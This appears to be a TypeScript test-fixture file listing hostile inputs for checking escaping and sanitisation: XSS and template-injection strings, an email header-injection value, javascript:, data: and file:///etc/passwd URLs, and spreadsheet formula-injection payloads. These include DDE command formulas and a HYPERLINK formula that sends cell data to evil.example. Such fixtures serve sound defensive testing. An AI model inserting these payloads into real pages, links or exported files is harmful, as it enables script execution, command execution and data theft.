/** Words that run, climb out of an attribute, or break a line where somebody forgot to escape them. */
export const HOSTILE_WORDS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></textarea></pre><svg onload=alert(1)>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;',
  '<!--><script>alert(1)</script-->',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)} <%= 1 %>',
  '\u2028<style>@import "//evil.example"</style>\u202E',
  'x\r\nBcc: everybody@evil.example\r\n\r\n<b>body</b>',
  'x\nATTACH:http://evil.example\nEND:VEVENT',
  "$& $' $` $1 __CSP_NONCE__ <!--head-->",
]

/** Addresses that would run, or read a file, were they made into links. */
export const HOSTILE_ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)<!--@a.example/',
  'java\r\nscript:alert(1)<!--@a.example/',
  '\u0001javascript:alert(1)<!--@a.example/',
  'javascript://a.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD4=',
  'vbscript:msgbox(1)',
  'blob:https://a.example/1',
  'filesystem:https://a.example/1',
  'file:///etc/passwd',
  'https://bank.example@evil.example',
]

/** What a spreadsheet would run, or take apart, where a cell begins with it. */
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"x")',
  "+1-1|cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  ' =1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  "'=1+1",
  '"=1+1"',
  '",=1+1,"',
  'x\r\n=1+1',
  ';=1+1',
]
